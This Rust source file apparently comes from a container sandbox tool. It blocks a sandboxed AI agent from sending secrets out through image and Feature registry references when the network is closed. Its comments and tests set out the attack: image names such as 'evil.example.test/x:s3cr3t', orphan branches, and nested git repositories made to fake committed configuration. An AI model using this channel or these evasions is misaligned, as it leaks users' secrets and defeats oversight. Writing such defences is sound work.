//! Registry hosts as a channel out of a closed network (attack K12, spec-note 0400).
//!
//! Under `--network none` (and `allowlist`) the container reaches nothing, but the engine pulls
//! `FROM`/`image` references and devcell fetches Feature references on the host's network: an
//! agent that writes `FROM <host>/x:<secret>` into the workspace has the next `up` or handoff
//! send the secret to a registry it names. Under `hardened` with a closed network, a registry
//! host that a reference the configuration names would be fetched from is the request
//! [`Permission::Registry`] (`--allow registry:<host>`) unless the **committed** configuration
//! names that host too: the version of the same file git has in `HEAD` (read with devcell's
//! hardened host git as data, [`committed_text`]), which the agent's working-tree edits do not
//! change. A file git does not track (or a workspace that is no repository) has no committed
//! version: every host it names is a request. A reference already on the engine is not fetched
//! (the caller leaves it out), so it asks nothing. Docker Hub's short names (`busybox`,
//! `library/x`, `index.docker.io/x`) all name `docker.io` ([`image_host`]). Pure but for
//! [`committed_text`].

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use serde_json::Value;

use super::build_stages;
use super::policy::{Grants, Permission, PermissionRequest, Source, judge};
use super::profile::SecurityProfile;
use crate::features::reference::FeatureRef;
use crate::formats::image_reference::{DOCKER_HUB, ImageReference};

/// The registry host an image reference is pulled from, lowercased with its port:
/// `docker.io` for a name without one (`busybox`, `library/x`, `user/x`, `index.docker.io/x`),
/// as the engine maps it to its default registry (whatever mirror it is configured with). A
/// reference that does not parse is judged by its first component when that reads as a host
/// (a `.` or `:` in it, or `localhost`), else as Docker Hub's, as the engine would try it; one
/// still holding a `$` (a value only the builder knows) is its first component as written.
pub fn image_host(reference: &str) -> String {
    if let Ok(parsed) = ImageReference::parse(reference) {
        return match parsed.registry() {
            "index.docker.io" | "registry-1.docker.io" => DOCKER_HUB.to_string(),
            host => host.to_ascii_lowercase(),
        };
    }
    let first = reference.split('/').next().unwrap_or(reference);
    let is_host = reference.contains('/')
        && (first.contains(['.', ':']) || first.eq_ignore_ascii_case("localhost"));
    if reference.contains('$') || is_host {
        first.to_ascii_lowercase()
    } else {
        DOCKER_HUB.to_string()
    }
}

/// The host a Feature reference (a key of `features`) is fetched from: an OCI reference's
/// registry, a tarball URL's host; `None` for a local Feature folder (or a key that does not
/// parse, which the Features module refuses before fetching anything).
pub fn feature_host(key: &str) -> Option<String> {
    match FeatureRef::parse(key).ok()? {
        FeatureRef::Oci { registry, .. } => Some(registry.to_ascii_lowercase()),
        FeatureRef::Tarball { url, .. } => Some(crate::features::fetch::url_host(&url)),
        FeatureRef::Local { .. } => None,
    }
}

/// A reference the configuration names that would be fetched from a registry, with its host
/// ([`image_host`], [`feature_host`]) and who names it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Named {
    /// The registry host.
    pub host: String,
    /// The reference as named (`FROM`'s image, `image`, a Feature key).
    pub reference: String,
    /// Who names it.
    pub source: Source,
}

/// What devcontainer.json (`value`, the working tree's or the committed one) names to fetch:
/// its `image` and its Features' keys, each with its host; a local Feature names none.
pub fn configuration_names(value: &Value) -> Vec<Named> {
    let mut named = Vec::new();
    if let Some(image) = value.get("image").and_then(Value::as_str) {
        named.push(Named {
            host: image_host(image),
            reference: image.to_string(),
            source: Source::DevcontainerJson,
        });
    }
    for key in value
        .get("features")
        .and_then(Value::as_object)
        .into_iter()
        .flat_map(|f| f.keys())
    {
        if let Some(host) = feature_host(key) {
            named.push(Named {
                host,
                reference: key.clone(),
                source: Source::DevcontainerJson,
            });
        }
    }
    named
}

/// The string values of devcontainer.json's `build.args` (as the build passes them; a
/// non-string value is left out).
pub fn build_args(value: &Value) -> BTreeMap<String, String> {
    value
        .pointer("/build/args")
        .and_then(Value::as_object)
        .into_iter()
        .flatten()
        .filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_string())))
        .collect()
}

/// Every registry host a Dockerfile's text names (any stage's base, any `--from` image), with
/// `args`: the committed side of the judgement, where being named is enough.
pub fn dockerfile_hosts(text: &str, args: &BTreeMap<String, String>) -> BTreeSet<String> {
    build_stages::named_images(text, args)
        .iter()
        .map(|r| image_host(r))
        .collect()
}

/// The services of a Compose file's text, read as YAML data (no interpolation, merge key or
/// `extends` applied: the committed side only ever names less for it); empty when it does not
/// parse.
fn compose_text_services(text: &str) -> serde_json::Map<String, Value> {
    serde_yaml::from_str::<Value>(text)
        .ok()
        .and_then(|v| v.get("services").and_then(Value::as_object).cloned())
        .unwrap_or_default()
}

/// The string `build.args` of `service` in a Compose file's text (a map, or a list of
/// `NAME=value`).
pub fn compose_text_args(text: &str, service: &str) -> BTreeMap<String, String> {
    let services = compose_text_services(text);
    match services.get(service).and_then(|s| s.pointer("/build/args")) {
        Some(Value::Object(map)) => map
            .iter()
            .filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_string())))
            .collect(),
        Some(Value::Array(list)) => list
            .iter()
            .filter_map(|v| v.as_str()?.split_once('='))
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        _ => BTreeMap::new(),
    }
}

/// Every registry host a Compose file's text names (the committed side, attack 23, N9): each
/// service's `image`, its `build.dockerfile_inline`'s images (with its `args`), its
/// `build.additional_contexts`' `docker-image://` images. A build's Dockerfile in its context
/// is read by the caller ([`dockerfile_hosts`]).
pub fn compose_text_hosts(text: &str) -> BTreeSet<String> {
    let mut hosts = BTreeSet::new();
    for (name, service) in compose_text_services(text) {
        if let Some(image) = service.get("image").and_then(Value::as_str) {
            hosts.insert(image_host(image));
        }
        let Some(build) = service.get("build") else {
            continue;
        };
        if let Some(inline) = build.get("dockerfile_inline").and_then(Value::as_str) {
            hosts.extend(dockerfile_hosts(inline, &compose_text_args(text, &name)));
        }
        for image in super::compose::docker_image_contexts(build) {
            hosts.insert(image_host(image));
        }
    }
    hosts
}

/// The requests of `named` under `profile` with `grants`, when the container's network is
/// `closed` (`none`, `allowlist`, or `devcell build`): one [`Permission::Registry`] per host
/// that `committed` (the hosts the committed configuration names) does not hold, the first
/// reference naming it as the source. None under `reference` or an open network: a
/// container that reaches the network has no need of this channel.
pub fn judge_registries(
    profile: &SecurityProfile,
    grants: &Grants,
    closed: bool,
    named: &[Named],
    committed: &BTreeSet<String>,
) -> Vec<PermissionRequest> {
    if !closed || !matches!(profile, SecurityProfile::Hardened(_)) {
        return Vec::new();
    }
    let mut asked: Vec<(Permission, Source)> = Vec::new();
    for n in named.iter().filter(|n| !committed.contains(&n.host)) {
        let permission = Permission::Registry(n.host.clone());
        if !asked.iter().any(|(p, _)| *p == permission) {
            asked.push((permission, n.source.clone()));
        }
    }
    judge(profile, asked, grants)
}

/// The most of a committed file devcell reads (bytes): a Dockerfile's bound.
const COMMITTED_MAX: u64 = super::dockerfile::DOCKERFILE_MAX;

/// Where a fetch-back records, for each branch it moved forward or created with the agent's
/// commits, the commit the user had before (`<BEFORE_AGENT>/heads/<branch>`; written once, so
/// it stays at the user's commit through later sessions until the user deletes it). The agent's
/// commits then in `HEAD` are not the user's: the committed side is read there too
/// ([`committed_texts`]; attack K12, spec-note 0400).
pub const BEFORE_AGENT: &str = "refs/devcell/before-agent";

/// The revisions whose version of a file in the repository `folder` is in counts as committed:
/// `HEAD`, and each [`BEFORE_AGENT`] record that bears on it ([`against_records`]), as an
/// object name. When the repository has records and `HEAD` descends from none of them (an
/// orphan branch the agent made, a commit kept aside under `refs/devcell/<session>/…` checked
/// out), or git does not answer, one revision that names nothing is added, so every host is
/// asked. Empty when `folder` is in no repository or git does not answer within its quick
/// deadline.
fn committed_revisions(folder: &Path) -> Vec<String> {
    let run = |args: &[&str]| {
        quick_git(folder, args).map(|out| String::from_utf8_lossy(&out).trim().to_string())
    };
    if run(&["rev-parse", "--verify", "-q", "HEAD^{commit}"]).is_none() {
        return Vec::new();
    }
    let mut revisions = vec!["HEAD".to_string()];
    match against_records(&run) {
        HeadAndRecords::NoRecords => {}
        HeadAndRecords::Below(records) => {
            for record in records {
                if !revisions.contains(&record) {
                    revisions.push(record);
                }
            }
        }
        HeadAndRecords::Outside | HeadAndRecords::Unknown => {
            revisions.push(format!("{BEFORE_AGENT}/not-a-revision"));
        }
    }
    revisions
}

/// The most [`BEFORE_AGENT`] records [`against_records`] weighs; past it the repository has no
/// committed side (every host is asked).
const MAX_RECORDS: usize = 64;

/// Where `HEAD` stands against a repository's [`BEFORE_AGENT`] records (spec-note 0467).
#[derive(Debug, Clone, PartialEq, Eq)]
enum HeadAndRecords {
    /// The repository has none: no fetch-back brought an agent's commits into it.
    NoRecords,
    /// The records that bear on `HEAD`, as object names: each commit record `HEAD` contains
    /// (its own branch's, and one a detached `HEAD` or a renamed or deleted branch left), and
    /// each tree record (a repository that had no commit before the agent: no version there
    /// names a host).
    Below(Vec<String>),
    /// There are commit records, and `HEAD` contains none of them: it is the agent's (an
    /// orphan branch, a kept-aside commit checked out), so nothing of it counts as the user's.
    Outside,
    /// Past [`MAX_RECORDS`], or git did not answer.
    Unknown,
}

/// Weighs the [`BEFORE_AGENT`] records against `HEAD` with two git processes, whatever their
/// number: every record with its type, then those `HEAD` contains (`for-each-ref
/// --merged=HEAD`, which lists only commits).
fn against_records(run: &dyn Fn(&[&str]) -> Option<String>) -> HeadAndRecords {
    let prefix = format!("{BEFORE_AGENT}/");
    let format = "--format=%(objectname) %(objecttype)";
    let Some(listed) = run(&["for-each-ref", format, &prefix]) else {
        return HeadAndRecords::Unknown;
    };
    let records: Vec<(&str, &str)> = listed.lines().filter_map(|l| l.split_once(' ')).collect();
    if records.is_empty() {
        return HeadAndRecords::NoRecords;
    }
    if records.len() > MAX_RECORDS {
        return HeadAndRecords::Unknown;
    }
    let Some(merged) = run(&["for-each-ref", "--merged=HEAD", format, &prefix]) else {
        return HeadAndRecords::Unknown;
    };
    let trees = records.iter().filter(|(_, kind)| *kind == "tree");
    let below: Vec<String> = merged
        .lines()
        .filter_map(|l| l.split_once(' '))
        .filter(|(_, kind)| *kind == "commit")
        .chain(trees.copied())
        .map(|(object, _)| object.to_string())
        .collect();
    if below.is_empty() {
        HeadAndRecords::Outside
    } else {
        HeadAndRecords::Below(below)
    }
}

/// Whether the repository git finds from `workspace` has [`BEFORE_AGENT`] records and its
/// `HEAD` descends from none of them: the committed side then names nothing (every host is
/// asked) and a request says why ([`judge_registries_at`]).
pub fn head_outside_records(workspace: &Path) -> bool {
    let workspace =
        crate::security::host_path::resolve(workspace).unwrap_or_else(|_| workspace.to_path_buf());
    let run = |args: &[&str]| {
        quick_git(&workspace, args).map(|out| String::from_utf8_lossy(&out).trim().to_string())
    };
    run(&["rev-parse", "--verify", "-q", "HEAD^{commit}"]).is_some()
        && against_records(&run) == HeadAndRecords::Outside
}

/// [`judge_registries`] of the workspace `workspace`: when its `HEAD` descends from none of
/// the repository's [`BEFORE_AGENT`] records ([`head_outside_records`]), each request's source
/// says so ([`Source::AgentHead`]), so the user sees why a host their branch names is asked.
pub fn judge_registries_at(
    workspace: &Path,
    profile: &SecurityProfile,
    grants: &Grants,
    closed: bool,
    (named, committed): (&[Named], &BTreeSet<String>),
) -> Vec<PermissionRequest> {
    let mut asked = judge_registries(profile, grants, closed, named, committed);
    if !asked.is_empty() && head_outside_records(workspace) {
        for request in &mut asked {
            request.source = Source::AgentHead(Box::new(request.source.clone()));
        }
    }
    asked
}

/// The committed versions of `path`: its content at each revision of [`committed_revisions`]
/// (`HEAD`, then the commit the user had before a fetch-back brought the agent's commits into
/// that branch), `None` where that revision has no such file. Empty when there is no committed
/// version at all. A host counts as committed only when every version names it.
///
/// git finds the repository from `workspace` (the workspace folder), never from the file's own
/// folder: a `.devcontainer/.git` the agent or a hook made there would otherwise be the
/// repository whose `HEAD` counts as committed (attack 23, N10). A file outside `workspace`
/// has no committed version.
pub fn committed_texts(path: &Path, workspace: &Path) -> Vec<Option<String>> {
    let workspace =
        crate::security::host_path::resolve(workspace).unwrap_or_else(|_| workspace.to_path_buf());
    let Ok(relative) = path.strip_prefix(&workspace) else {
        return Vec::new();
    };
    let revisions = committed_revisions(&workspace);
    let at = |rev: &str| committed_text_at(&workspace, relative, rev);
    match revisions.first() {
        Some(head) if at(head).is_some() => revisions.iter().map(|rev| at(rev)).collect(),
        _ => Vec::new(),
    }
}

/// The hosts every committed version names: the intersection of `hosts(index, text)` over
/// `versions` (a missing version names none); empty when there are no versions.
pub fn named_by_every(
    versions: &[Option<String>],
    mut hosts: impl FnMut(usize, &str) -> BTreeSet<String>,
) -> BTreeSet<String> {
    let mut sets = versions
        .iter()
        .enumerate()
        .map(|(i, v)| v.as_deref().map(|text| hosts(i, text)).unwrap_or_default());
    let first = sets.next().unwrap_or_default();
    sets.fold(first, |all, set| all.intersection(&set).cloned().collect())
}

/// The content of the version of `relative` (a path below the folder `repository`) in `rev`
/// (`HEAD`, an object name) of the repository git finds from `repository`, read with devcell's
/// hardened host git ([`crate::config::hostgit::command`]: nothing the
/// repository configures runs) as data (`cat-file`, no filter or text conversion), at most
/// [`COMMITTED_MAX`] bytes. `None` when there is none: not a repository, no such revision, a
/// file git does not track there, one too large, or git failing or not answering within its
/// quick deadline. The caller gives `relative` below what the working tree's file resolves to
/// (a link's target), so the committed file is the one read.
pub fn committed_text_at(repository: &Path, relative: &Path, rev: &str) -> Option<String> {
    let object = format!("{rev}:./{}", relative.to_str()?);
    let run = |args: &[&str]| quick_git(repository, args);
    let kind = run(&["cat-file", "-t", &object])?;
    if String::from_utf8_lossy(&kind).trim() != "blob" {
        return None;
    }
    let size = run(&["cat-file", "-s", &object])?;
    let size: u64 = String::from_utf8_lossy(&size).trim().parse().ok()?;
    if size > COMMITTED_MAX {
        return None;
    }
    let bytes = run(&["cat-file", "blob", &object])?;
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// The standard output of devcell's hardened host git run with `args` in `folder`
/// ([`crate::config::hostgit::command`]), `None` when it fails or does not answer within its
/// quick deadline.
fn quick_git(folder: &Path, args: &[&str]) -> Option<Vec<u8>> {
    let mut git = crate::config::hostgit::command(folder, &[]);
    git.args(args);
    let out =
        crate::config::hostgit::output_within(&mut git, crate::config::hostgit::quick_deadline())
            .ok()?;
    out.status.success().then_some(out.stdout)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// Docker Hub's short names all name `docker.io`; a host with a port is kept with it; a
    /// reference that does not parse is judged by a host-like first component, else as Docker
    /// Hub's; a `$` keeps the component as written.
    #[test]
    fn every_spelling_of_a_registry_names_its_host() {
        for short in [
            "busybox",
            "library/busybox:1",
            "user/x",
            "docker.io/library/alpine:3",
            "index.docker.io/x/y",
            "registry-1.docker.io/x/y",
        ] {
            assert_eq!(image_host(short), "docker.io", "{short}");
        }
        assert_eq!(image_host("127.0.0.1:5000/a/b:1"), "127.0.0.1:5000");
        assert_eq!(
            image_host("Exfil.Example.test/x:s3cr3t"),
            "exfil.example.test"
        );
        assert_eq!(image_host("localhost/x"), "localhost");
        // uppercase repository: no reference, but the host it names
        assert_eq!(
            image_host("evil.example.test:81/UPPER:x"),
            "evil.example.test:81"
        );
        assert_eq!(image_host("${REG}/x:1"), "${reg}");
        assert_eq!(
            feature_host("ghcr.io/devcontainers/features/node:1").as_deref(),
            Some("ghcr.io")
        );
        assert_eq!(
            feature_host("https://u@Tar.example.test/devcontainer-feature-x.tgz").as_deref(),
            Some("tar.example.test")
        );
        assert_eq!(feature_host("./local"), None);
    }

    fn hardened() -> SecurityProfile {
        SecurityProfile::default()
    }

    /// Attack K12: under a closed network a host the committed configuration does not name
    /// is a `registry:<host>` request, once per host; a committed host asks nothing (the
    /// common case needs no flag); the grant grants it; an open network or the `reference`
    /// profile judges nothing.
    #[test]
    fn a_registry_the_committed_configuration_does_not_name_is_a_request() {
        let working = json!({
            "image": "127.0.0.1:18997/x:s3cr3t",
            "features": {
                "127.0.0.1:18997/f/g:1": {},
                "ghcr.io/devcontainers/features/node:1": {},
                "./local": {}
            }
        });
        let committed_value = json!({
            "image": "busybox",
            "features": {"ghcr.io/devcontainers/features/node:1": {}}
        });
        let committed: BTreeSet<String> = configuration_names(&committed_value)
            .into_iter()
            .map(|n| n.host)
            .collect();
        assert_eq!(
            committed,
            BTreeSet::from(["docker.io".to_string(), "ghcr.io".to_string()])
        );
        let named = configuration_names(&working);
        let asked = judge_registries(&hardened(), &Grants::default(), true, &named, &committed);
        let shown: Vec<String> = asked.iter().map(ToString::to_string).collect();
        assert_eq!(shown.len(), 1, "{shown:?}");
        assert_eq!(
            asked[0].permission.grant_flag().as_deref(),
            Some("--allow registry:127.0.0.1:18997")
        );
        assert_eq!(asked[0].status, crate::security::RequestStatus::Refused);
        // the same configuration committed: nothing asked
        let all: BTreeSet<String> = named.iter().map(|n| n.host.clone()).collect();
        assert!(judge_registries(&hardened(), &Grants::default(), true, &named, &all).is_empty());
        // granted
        let grants = Grants::parse(&["registry:127.0.0.1:18997"]).unwrap();
        let asked = judge_registries(&hardened(), &grants, true, &named, &committed);
        assert_eq!(asked[0].status, crate::security::RequestStatus::Granted);
        // an open network, or the reference profile: not judged
        assert!(
            judge_registries(&hardened(), &Grants::default(), false, &named, &committed).is_empty()
        );
        assert!(
            judge_registries(
                &SecurityProfile::Reference,
                &Grants::default(),
                true,
                &named,
                &committed
            )
            .is_empty()
        );
        // a workspace with no committed version (no repository, an untracked file): every
        // host named is asked, Docker Hub's too
        let short = configuration_names(&json!({"image": "busybox"}));
        let asked = judge_registries(
            &hardened(),
            &Grants::default(),
            true,
            &short,
            &BTreeSet::new(),
        );
        assert_eq!(
            asked[0].permission.grant_flag().as_deref(),
            Some("--allow registry:docker.io")
        );
    }

    /// The committed side of a Dockerfile counts every host it names in any stage, expanded
    /// with the committed build arguments: an argument the agent changes in the working tree
    /// does not change what the committed file names.
    #[test]
    fn a_committed_dockerfile_names_the_hosts_of_every_stage_with_its_own_arguments() {
        let text = "ARG REG=mcr.example.test\nFROM ${REG}/base:1 AS a\nFROM busybox\n\
                    COPY --from=copied.example.test/c:1 /x /x\n";
        assert_eq!(
            dockerfile_hosts(text, &BTreeMap::new()),
            BTreeSet::from([
                "copied.example.test".to_string(),
                "docker.io".to_string(),
                "mcr.example.test".to_string()
            ])
        );
        let committed = json!({"build": {"args": {"REG": "mine.example.test", "N": 1}}});
        assert!(dockerfile_hosts(text, &build_args(&committed)).contains("mine.example.test"));
    }

    /// A file's committed version is read from `HEAD` as data; an untracked file, a changed
    /// working tree and a folder that is no repository read as what `HEAD` has or nothing.
    #[test]
    fn the_committed_version_is_heads_not_the_working_trees() {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path();
        let git = |args: &[&str]| {
            crate::config::hostgit::test_git(dir, args);
        };
        let file = dir.join("Dockerfile");
        std::fs::write(&file, "FROM busybox\n").unwrap();
        assert_eq!(
            committed_text_at(dir, Path::new("Dockerfile"), "HEAD"),
            None,
            "not a repository"
        );
        git(&["init", "-q", "-b", "main"]);
        assert_eq!(
            committed_text_at(dir, Path::new("Dockerfile"), "HEAD"),
            None,
            "no HEAD"
        );
        git(&["add", "Dockerfile"]);
        git(&["commit", "-q", "-m", "c"]);
        std::fs::write(&file, "FROM evil.example.test/x:s3cr3t\n").unwrap();
        assert_eq!(
            committed_text_at(dir, Path::new("Dockerfile"), "HEAD").as_deref(),
            Some("FROM busybox\n")
        );
        // the agent's commit brought in by a fetch-back, with the user's commit recorded: both
        // versions are read, and only a host both name counts as committed (attack K12)
        let agents = "FROM busybox AS a\nFROM evil.example.test/x:s3cr3t\n".to_string();
        std::fs::write(&file, &agents).unwrap();
        git(&["commit", "-q", "-am", "agent"]);
        assert_eq!(committed_texts(&file, dir), vec![Some(agents.clone())]);
        git(&[
            "update-ref",
            &format!("{BEFORE_AGENT}/heads/main"),
            "HEAD~1",
        ]);
        let versions = committed_texts(&file, dir);
        assert_eq!(
            versions,
            vec![Some(agents), Some("FROM busybox\n".to_string())]
        );
        let hosts = |_, text: &str| dockerfile_hosts(text, &BTreeMap::new());
        assert_eq!(
            named_by_every(&versions, hosts),
            BTreeSet::from(["docker.io".to_string()])
        );
        // a file the agent added has no version the user had: it names nothing committed
        assert!(named_by_every(&[Some("FROM busybox\n".into()), None], hosts).is_empty());
        assert!(named_by_every(&[], hosts).is_empty());
        let untracked = dir.join("Other");
        std::fs::write(&untracked, "FROM busybox\n").unwrap();
        assert_eq!(
            committed_text_at(dir, Path::new("Other"), "HEAD"),
            None,
            "untracked"
        );
        // a repository the agent made in a folder of the workspace is not the workspace's: its
        // `HEAD` is no committed version (attack 23, N10)
        let nested = dir.join(".devcontainer");
        std::fs::create_dir_all(&nested).unwrap();
        std::fs::write(nested.join("Dockerfile"), "FROM evil.example.test/x\n").unwrap();
        let in_nested = |args: &[&str]| {
            crate::config::hostgit::test_git(&nested, args);
        };
        in_nested(&["init", "-q", "-b", "main"]);
        in_nested(&["add", "Dockerfile"]);
        in_nested(&["commit", "-q", "-m", "agent"]);
        assert!(committed_texts(&nested.join("Dockerfile"), dir).is_empty());
        // and a file outside the workspace has none
        assert!(committed_texts(&file, &nested).is_empty());
    }

    /// A `HEAD` that descends from none of the repository's before-agent records (an orphan
    /// branch) has no committed side, and each request says why; back on the user's branch
    /// the records bear on `HEAD` again and the request is the plain one (spec-note 0467).
    #[test]
    fn a_head_below_no_record_is_asked_for_and_says_why() {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path();
        let git = |args: &[&str]| {
            crate::config::hostgit::test_git(dir, args);
        };
        git(&["init", "-q", "-b", "main"]);
        let file = dir.join("devcontainer.json");
        std::fs::write(&file, r#"{"image": "busybox"}"#).unwrap();
        git(&["add", "devcontainer.json"]);
        git(&["commit", "-q", "-m", "user"]);
        git(&["update-ref", &format!("{BEFORE_AGENT}/heads/main"), "HEAD"]);
        let named = configuration_names(&json!({"image": "busybox"}));
        let judged = |committed: &BTreeSet<String>| {
            judge_registries_at(
                dir,
                &hardened(),
                &Grants::default(),
                true,
                (&named, committed),
            )
        };
        let committed_hosts = || {
            named_by_every(&committed_texts(&file, dir), |_, text| {
                configuration_names(&serde_json::from_str(text).unwrap())
                    .into_iter()
                    .map(|n| n.host)
                    .collect()
            })
        };
        assert!(judged(&committed_hosts()).is_empty(), "the user's branch");
        git(&["checkout", "-q", "--orphan", "fresh"]);
        git(&["commit", "-q", "-m", "agent"]);
        assert!(head_outside_records(dir));
        let asked = judged(&committed_hosts());
        assert_eq!(asked.len(), 1, "{asked:?}");
        let shown = asked[0].to_string();
        assert!(
            shown.contains("descends from none of the commits devcell recorded"),
            "{shown}"
        );
        // the same request on the user's branch is the plain one
        git(&["checkout", "-q", "main"]);
        assert!(!head_outside_records(dir));
        let asked = judged(&BTreeSet::new());
        assert_eq!(asked[0].source, Source::DevcontainerJson);
    }

    /// Attack 23, N9: the committed side of a Compose configuration: every host its files'
    /// services name (`image`, `dockerfile_inline` with the service's `args`, a
    /// `docker-image://` context), read as data; a file that does not parse names none.
    #[test]
    fn a_compose_file_names_the_hosts_of_its_services() {
        let text = "services:\n  app:\n    image: devcell-test/busybox:1\n  side:\n    \
            image: 127.0.0.1:5000/x:1\n  b:\n    build:\n      context: .\n      args:\n        \
            - REG=inline.example.test\n      dockerfile_inline: |\n        ARG REG\n        \
            FROM ${REG}/i:1\n      additional_contexts:\n        c: docker-image://ctx.example.test/c\n";
        let hosts: Vec<String> = compose_text_hosts(text).into_iter().collect();
        assert_eq!(
            hosts,
            [
                "127.0.0.1:5000",
                "ctx.example.test",
                "docker.io",
                "inline.example.test"
            ]
        );
        assert_eq!(
            compose_text_args(text, "b").get("REG").map(String::as_str),
            Some("inline.example.test")
        );
        assert!(compose_text_hosts("services: [").is_empty());
    }
}
